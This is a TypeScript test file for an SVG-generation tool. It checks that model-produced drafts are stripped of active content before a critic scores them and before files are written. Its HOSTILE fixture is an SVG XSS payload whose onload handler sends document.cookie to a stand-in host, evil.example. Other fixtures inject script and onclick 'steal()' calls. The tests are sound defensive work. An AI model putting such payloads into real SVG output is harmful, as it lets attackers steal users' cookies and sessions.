// Model output is untrusted: drafts are sanitized before the critic sees them
// and before the best-pick compares them, and a fix keeps only the active
// content the user's file already had. A scripted endpoint plays the hostile
// (or prompt-injected) model, since a real model cannot be made to on demand.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { refineOnce, runLoop } from '../../src/core/loop';
import type { Capabilities } from '../../src/core/model/capabilities';
import { ModelClient } from '../../src/core/model/client';
import { WorkerPool } from '../../src/core/render/pool';
import { CLI_JS } from './bundledServer';
import { startFaultServer, type FaultServer } from './faultServer';

function cli(args: string[], cwd: string): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [CLI_JS, ...args], { cwd, env: { ...process.env, SVG_COPILOT_API_KEY: '' }, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => (stderr += d));
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

const HOSTILE = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 200" onload="fetch('https://evil.example/?c='+document.cookie)"><script>alert(document.domain)</script><a href="javascript:alert(1)"><circle cx="100" cy="100" r="80" fill="#36c"/></a><use href="https://evil.example/sprite.svg#x"/></svg>`;
const PLAIN = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 200"><circle cx="100" cy="100" r="80" fill="#36c"/></svg>';
const ACTIVE = /<script|onload|javascript:|evil\.example/;
const TEXT_ONLY: Capabilities = { images: false, jsonSchema: true, svgGrammar: false, multipleChoices: false };

describe('loop: active content in model answers', function () {
  this.timeout(20_000);
  let pool: WorkerPool;
  let server: FaultServer | undefined;
  before(() => { pool = new WorkerPool({ size: 1 }); });
  after(() => pool.dispose());
  afterEach(async () => { await server?.close(); server = undefined; });

  // A critic that would reward active content, if it ever saw any.
  const verdictFor = (text: string) => JSON.stringify({ score: ACTIVE.test(text) ? 10 : 4, critique: 'ok', suggestions: '1. fine' });

  it('the critic sees, and the best-pick compares, only the sanitized drafts', async () => {
    server = await startFaultServer((r) => (r.kind === 'generate' ? { text: r.nth === 0 ? HOSTILE : PLAIN } : { text: verdictFor(r.text) }));
    const result = await runLoop({ prompt: 'a blue ball', client: new ModelClient({ baseURL: server.url }), renderer: pool, capabilities: TEXT_ONLY, candidates: 2, rounds: 1, seed: 1 });
    const critics = server.requests.filter((r) => r.kind === 'critic-text');
    assert.equal(critics.length, 2);
    for (const c of critics) assert.doesNotMatch(c.text, ACTIVE, 'the critic was shown active content');
    const scores = result.rounds[0].candidates.map((c) => c.score);
    assert.deepEqual(scores, [4, 4], 'no draft scored higher for its active content');
    assert.ok(result.svg);
    assert.doesNotMatch(result.svg, ACTIVE);
    const hostile = result.rounds[0].candidates.find((c) => c.raw.includes('<script'))!;
    assert.deepEqual(hostile.removed?.map((r) => r.what), [
      `onload on <svg>`, '<script>', 'href="javascript:alert(1)" on <a>', 'href="https://evil.example/sprite.svg#x" on <use>',
    ]);
    assert.match(hostile.svg!, /<circle cx="100" cy="100" r="80" fill="#36c"\/>/, 'the drawing stays');
  });

  it('keeps active content when the caller allows it', async () => {
    server = await startFaultServer((r) => (r.kind === 'generate' ? { text: HOSTILE } : { text: verdictFor(r.text) }));
    const result = await runLoop({ prompt: 'a blue ball', client: new ModelClient({ baseURL: server.url }), renderer: pool, capabilities: TEXT_ONLY, rounds: 1, allowActiveContent: true });
    assert.equal(result.svg, HOSTILE);
    assert.equal(result.removed, undefined);
  });

  it('a fix keeps the user\'s own external references and removes only what the model added', async () => {
    const mine = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><use href="icons.svg#a"/><circle cx="12" cy="12" r="4"/></svg>';
    const fixed = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><use href="icons.svg#a"/><circle cx="12" cy="12" r="6" onclick="steal()"/><script>steal()</script></svg>';
    server = await startFaultServer(() => ({ text: fixed }));
    const f = await refineOnce({ svg: mine, prompt: 'a dot', client: new ModelClient({ baseURL: server.url }), renderer: pool, capabilities: TEXT_ONLY });
    assert.ok(f.ok);
    assert.equal(f.svg, '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><use href="icons.svg#a"/><circle cx="12" cy="12" r="6"/></svg>');
    assert.deepEqual(f.removed.map((r) => r.what), ['onclick on <circle>', '<script>']);
  });

  it('a fix that is not usable is asked for again, up to the attempts given, and the first usable one is kept', async () => {
    const mine = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><circle cx="12" cy="12" r="4"/></svg>';
    const answers = ['no svg here', '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"></svg>', '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><circle cx="12" cy="12" r="6"/></svg>'];
    let asked = 0;
    server = await startFaultServer(() => ({ text: answers[Math.min(asked++, answers.length - 1)] }));
    const once = await refineOnce({ svg: mine, prompt: 'a dot', client: new ModelClient({ baseURL: server.url }), renderer: pool, capabilities: TEXT_ONLY });
    assert.equal(once.ok, false, 'one try takes the unusable first answer');
    assert.equal(asked, 1);
    asked = 0;
    const twice = await refineOnce({ svg: mine, prompt: 'a dot', client: new ModelClient({ baseURL: server.url }), renderer: pool, capabilities: TEXT_ONLY, attempts: 2 });
    assert.ok(!twice.ok && twice.kind === 'error');
    assert.match(twice.message, /empty|nothing|blank/i, 'the second answer draws nothing and is refused too');
    assert.match(twice.message, /2 tries/);
    assert.equal(asked, 2);
    asked = 0;
    const thrice = await refineOnce({ svg: mine, prompt: 'a dot', client: new ModelClient({ baseURL: server.url }), renderer: pool, capabilities: TEXT_ONLY, attempts: 3 });
    assert.ok(thrice.ok);
    assert.equal(thrice.svg, answers[2]);
    assert.equal(asked, 3);
  });

  describe('CLI', () => {
    let dir: string;
    before(() => { dir = mkdtempSync(join(tmpdir(), 'svgc-active-')); });
    after(() => rmSync(dir, { recursive: true, force: true }));
    const endpoint = () => ['--endpoint', server!.url, '--critic', 'text', '--rounds', '1'];

    it('generate prints the sanitized SVG and says on stderr what it removed; --allow-active-content keeps it', async () => {
      server = await startFaultServer((r) => (r.kind === 'generate' ? { text: HOSTILE } : r.kind === 'probe' ? { text: 'ok' } : { text: verdictFor(r.text) }));
      const r = await cli(['generate', 'a blue ball', ...endpoint()], dir);
      assert.equal(r.code, 0, r.stderr);
      assert.doesNotMatch(r.stdout, ACTIVE);
      assert.match(r.stdout, /<circle cx="100" cy="100" r="80" fill="#36c"\/>/);
      assert.match(r.stderr, /svg-copilot: removed active content: onload on <svg>, <script>, href="javascript:alert\(1\)" on <a> and href="https:\/\/evil\.example\/sprite\.svg#x" on <use>/);
      const kept = await cli(['generate', 'a blue ball', ...endpoint(), '--allow-active-content'], dir);
      assert.equal(kept.stdout, `${HOSTILE}\n`);
      assert.doesNotMatch(kept.stderr, /removed active content/);
    });

    it('generate --csv writes sanitized files and names each row\'s removals on stderr', async () => {
      server = await startFaultServer((r) => (r.kind === 'generate' ? { text: r.text.includes('hostile') ? HOSTILE : PLAIN } : r.kind === 'probe' ? { text: 'ok' } : { text: verdictFor(r.text) }));
      writeFileSync(join(dir, 'rows.csv'), 'id,desc\nbad,a hostile ball\ngood,a plain ball\n');
      const r = await cli(['generate', '--csv', 'rows.csv', '--out-dir', 'out', ...endpoint()], dir);
      assert.equal(r.code, 0, r.stderr);
      assert.doesNotMatch(readFileSync(join(dir, 'out', 'bad.svg'), 'utf8'), ACTIVE);
      assert.equal(readFileSync(join(dir, 'out', 'good.svg'), 'utf8'), `${PLAIN}\n`);
      assert.match(r.stderr, /bad: removed active content: onload on <svg>/);
      assert.doesNotMatch(r.stderr, /good: removed/);
    });

    it('critique --fix keeps the file\'s own references and removes what the fix adds', async () => {
      const mine = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><use href="icons.svg#a"/><circle cx="12" cy="12" r="4"/></svg>';
      server = await startFaultServer((r) => (r.kind === 'refine' ? { text: mine.replace('r="4"/>', 'r="6"/><script>steal()</script>') } : r.kind === 'probe' ? { text: 'ok' } : { text: verdictFor(r.text) }));
      writeFileSync(join(dir, 'mine.svg'), mine);
      const r = await cli(['critique', 'mine.svg', '--fix', '-o', 'fixed.svg', '--endpoint', server.url, '--critic', 'text'], dir);
      assert.equal(r.code, 0, r.stderr);
      assert.equal(readFileSync(join(dir, 'fixed.svg'), 'utf8'), `${mine.replace('r="4"', 'r="6"')}\n`);
      assert.match(r.stderr, /svg-copilot: from the fix, removed active content: <script>/);
    });
  });
});
